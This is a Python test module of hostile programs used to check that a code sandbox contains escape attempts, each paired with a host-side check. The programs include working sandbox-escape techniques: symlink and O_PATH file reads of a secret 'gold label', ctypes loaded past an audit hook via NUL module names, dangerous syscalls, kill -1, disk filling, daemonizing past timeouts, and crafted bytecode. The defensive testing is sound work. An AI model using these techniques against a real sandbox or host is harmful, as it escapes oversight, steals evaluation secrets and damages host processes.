"""Hostile programs, one per class of escape found against the sandbox, each with its containment check.

Used by tests/test_sandbox_attacks.py (every attack at every level this host has) and by
scripts/bench_sandbox.py (the table of attacks tried / contained). `Host` sets up what an attack
aims at on the host (a secret file, a directory to create files in, a symlink, a bystander process);
an attack's `contained(result, host)` looks at the host afterwards, not only at what the code printed.
"""
from __future__ import annotations

import importlib.machinery
import marshal
import os
import shutil
import socket
import subprocess
import tempfile
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from model.sandbox import isolation
from model.sandbox.runner import DISK_BYTES, SandboxResult

SECRET = "the gold label is A"
MARKER = b"Bootstrap run by the sandboxed interpreter"  # in the argv of every sandboxed interpreter


class Host:
    """The host-side targets of the attacks; a context manager that removes them afterwards."""

    def __enter__(self) -> Host:
        self.dir = Path(tempfile.mkdtemp(prefix="skillrm-attack-"))
        self.secret = self.dir / "secret.txt"
        self.secret.write_text(SECRET)
        (self.dir / "link").symlink_to(self.secret)
        self.tag = uuid.uuid4().hex[:12]
        self.shm = Path(f"/dev/shm/skillrm-pwned-{self.tag}")
        self.bystander = subprocess.Popen(["sleep", "120"])
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.setblocking(False)
        return self

    def __exit__(self, *exc) -> None:
        self.listener.close()
        self.bystander.kill()
        self.bystander.wait()
        shutil.rmtree(self.dir, ignore_errors=True)
        self.shm.unlink(missing_ok=True)

    def inputs(self) -> dict:
        so = importlib.machinery.EXTENSION_SUFFIXES[0]
        site = Path(isolation.layout().stdlib) / "site-packages"
        extensions = [str(p) for p in sorted(site.glob(f"*{so}"))[:3]]
        extensions += [str(p) for p in sorted(Path("/usr/lib").glob(f"python3*/lib-dynload/_ctypes{so}"))]
        return {"sample": {"dir": str(self.dir), "secret": str(self.secret), "link": str(self.dir / "link"),
                           "shm": str(self.shm), "bystander": self.bystander.pid, "extensions": extensions,
                           "dynload": str(Path(isolation.layout().stdlib) / "lib-dynload"), "so": so,
                           "crafted": crafted_code().hex(), "disk": DISK_BYTES,
                           "port": self.listener.getsockname()[1]}}

    def untouched(self) -> bool:
        """The secret is where it was, nothing new is in the host directory, the bystander lives,
        nobody connected to the host's loopback."""
        try:
            self.listener.accept()[0].close()
            return False
        except BlockingIOError:
            pass
        names = sorted(p.name for p in self.dir.iterdir())
        return (names == ["link", "secret.txt"] and self.secret.read_text() == SECRET
                and self.bystander.poll() is None and not self.shm.exists())


def crafted_code() -> bytes:
    """A marshalled code object whose LOAD_CONST reads far past its constants (a crash, or worse)."""
    code = compile("None", "<crafted>", "eval")
    return marshal.dumps(code.replace(co_code=bytes([151, 0, 100, 200, 83, 0]), co_consts=(None,)))


def survivors() -> list[int]:
    """Sandboxed interpreters adopted by the host's init: they outlived their sandbox."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                ppid = int(Path(f"/proc/{name}/stat").read_text().rsplit(")", 1)[1].split()[1])
                if ppid == 1 and MARKER in Path(f"/proc/{name}/cmdline").read_bytes():
                    found.append(int(name))
            except (OSError, ValueError, IndexError):
                pass
    return found


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    contained: Callable[[SandboxResult, Host], bool]
    timeout_s: float = 5.0
    contained_at_rlimits: bool = True  # False: a documented limitation of the rlimits level
    hook_only: bool = False  # only the audit hook stands against it (the namespaces contain what follows)


def _no_secret(result: SandboxResult, host: Host) -> bool:
    return SECRET not in result.stdout + result.stderr and host.untouched()


ATTACKS = [
    Attack("network (host loopback, DNS)", '''
import socket
for attempt in (lambda: socket.create_connection(("127.0.0.1", sample["port"]), timeout=2),
                lambda: socket.getaddrinfo("pypi.org", 443)):
    try:
        attempt()
        print("CONNECTED")
    except OSError as e:
        print("refused", type(e).__name__)
''', lambda r, h: "CONNECTED" not in r.stdout and h.untouched()),
    Attack("read host file", '''
import os
for attempt in (lambda: open(sample["secret"]).read(), lambda: open(sample["link"]).read(),
                lambda: os.listdir(sample["dir"])):
    try:
        print(attempt())
    except OSError as e:
        print("refused", type(e).__name__)
''', _no_secret),
    Attack("write host file", '''
for path in (sample["dir"] + "/pwned", sample["secret"]):
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError as e:
        print("refused", type(e).__name__)
''', lambda r, h: h.untouched()),
    Attack("dir fd (O_PATH) create and rename", '''
import os
fds = []
for flags in (os.O_PATH | os.O_CREAT | os.O_EXCL, os.O_PATH, os.O_RDONLY | os.O_DIRECTORY):
    try:
        fds.append(os.open(sample["dir"], flags))
    except OSError as e:
        print("open refused", type(e).__name__)
for fd in fds:
    for attempt in (
            lambda: os.close(os.open("created", os.O_CREAT | os.O_EXCL | os.O_WRONLY, dir_fd=fd)),
            lambda: os.rename("secret.txt", "stolen.txt", src_dir_fd=fd),
            lambda: os.mkdir("made", dir_fd=fd),
            lambda: print(open(os.open("secret.txt", os.O_RDONLY, dir_fd=fd)).read())):
        try:
            attempt()
        except OSError as e:
            print("refused", type(e).__name__)
try:
    print(open("stolen.txt").read())
except OSError as e:
    print("nothing stolen", type(e).__name__)
''', _no_secret),
    Attack("C extension from site-packages", '''
import importlib.util, os
for path in sample["extensions"]:
    name = os.path.basename(path).split(".")[0]
    try:
        spec = importlib.util.spec_from_file_location(name, path)
        module = importlib.util.module_from_spec(spec)
        print("LOADED", name)
        if name == "_cffi_backend":
            ffi = module.FFI()
            ffi.cdef("int open(const char *, int); long read(int, char *, long);")
            libc, buf = ffi.dlopen(None), ffi.new("char[64]")
            libc.read(libc.open(sample["secret"].encode(), 0), buf, 64)
            print(ffi.string(buf))
    except Exception as e:
        print("refused", name, type(e).__name__)
''', lambda r, h: "LOADED" not in r.stdout and _no_secret(r, h)),
    Attack("NUL module name, then ctypes", '''
import importlib.util, sys
def load(name, path):
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
sys.modules["_ctypes"] = load("_ctypes\\0x", sample["dynload"] + "/_ctypes" + sample["so"])
print("HOOK DEFEATED")
ctypes = load("ctypes\\0x", sys.modules["os"].path.dirname(sys.modules["os"].__file__) + "/ctypes/__init__.py")
libc = ctypes.CDLL(None)
fd = libc.open(sample["secret"].encode(), 0)
buf = ctypes.create_string_buffer(64)
print(fd, libc.read(fd, buf, 64), buf.value)
''', _no_secret),
    Attack("ctypes: dangerous syscalls", '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {"ptrace": (101, 0, 0, 0, 0), "process_vm_readv": (310, 1, 0, 0, 0, 0, 0), "bpf": (321, 0, 0, 0),
         "keyctl": (250, 0, 0), "perf_event_open": (298, 0, 0, -1, -1, 0), "io_uring_setup": (425, 1, 0),
         "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "setns": (308, 0, 0),
         "unshare(NEWUSER)": (272, 0x10000000), "unshare(NEWNS)": (272, 0x00020000),
         "pidfd_send_signal": (424, 0, 9, 0, 0), "kexec_load": (246, 0, 0, 0, 0)}
for name, (number, *args) in calls.items():
    result = libc.syscall(number, *args)
    print(name, "ALLOWED" if result >= 0 else "refused" if ctypes.get_errno() == 1 else "OTHER ERROR")
''', lambda r, h: "ALLOWED" not in r.stdout and "OTHER" not in r.stdout and h.untouched()),
    Attack("signal a host process (kill, pidfd)", '''
import os, signal
try:  # safety catch for the host: send kill -1 only once the bystander is out of reach
    os.kill(sample["bystander"], 0)
    raise SystemExit("REACHED the bystander: not sending kill -1")
except OSError:
    pass
for attempt in (lambda: os.kill(sample["bystander"], signal.SIGKILL),
                lambda: signal.pidfd_send_signal(os.pidfd_open(sample["bystander"]), signal.SIGKILL),
                lambda: os.kill(-1, signal.SIGKILL)):
    try:
        attempt()
        print("sent")
    except OSError as e:
        print("refused", type(e).__name__)
''', lambda r, h: "REACHED" not in r.stderr and h.untouched()),
    Attack("fill the disk", '''
import os
total, block = 0, b"x" * (8 << 20)
for i in range(256):  # 2 GB
    with open(f"fill{i}", "wb") as f:
        f.write(block)
    total += len(block)
    print(total, flush=True)
''', lambda r, h: not r.ok and max([0, *map(int, r.stdout.split())]) <= 2 * DISK_BYTES),
    Attack("write host /dev/shm", '''
import os
try:
    with open(sample["shm"], "w") as f:
        f.write("pwned")
except OSError as e:
    print("refused", type(e).__name__)
try:
    import _posixshmem
    _posixshmem.shm_open("/" + os.path.basename(sample["shm"]), os.O_CREAT | os.O_RDWR, 0o600)
except (OSError, ImportError) as e:
    print("refused", type(e).__name__)
''', lambda r, h: h.untouched()),
    Attack("host file metadata (stat, readlink)", '''
import os
for attempt in (lambda: os.stat(sample["secret"]).st_size, lambda: os.readlink(sample["link"])):
    try:
        print("LEAKED", attempt())
    except OSError as e:
        print("refused", type(e).__name__)
''', lambda r, h: "LEAKED" not in r.stdout, contained_at_rlimits=False),
    Attack("outlive the timeout (setsid, sleep)", '''
import os, time
for step in (os.setsid, lambda: os.fork() == 0 and os.setsid()):  # a session leader, then a daemon
    try:
        step()
    except OSError:  # already a session leader; no fork at rlimits
        pass
time.sleep(60)
''', lambda r, h: r.timed_out and r.wall_s < 4 and not survivors(), timeout_s=1.0),
    Attack("hand-made bytecode (marshal)", '''
import marshal, os, sys
crafted = bytes.fromhex(sample["crafted"])
os.mkdir("__pycache__")
with open("evil.py", "w") as f:
    f.write("")
stamp = os.stat("evil.py")
header = __import__("importlib.util").util.MAGIC_NUMBER + bytes(4)
header += int(stamp.st_mtime).to_bytes(4, "little") + stamp.st_size.to_bytes(4, "little")
with open("__pycache__/evil.cpython-%d%d.pyc" % sys.version_info[:2], "wb") as f:
    f.write(header + crafted)
for attempt in (lambda: eval(marshal.loads(crafted)), lambda: (sys.path.insert(0, os.getcwd()),
                                                               __import__("evil"))):
    try:
        attempt()
        print("RAN")
    except PermissionError as e:
        print("refused", e)
''', lambda r, h: "RAN" not in r.stdout and r.stdout.count("refused") == 2, hook_only=True),
]
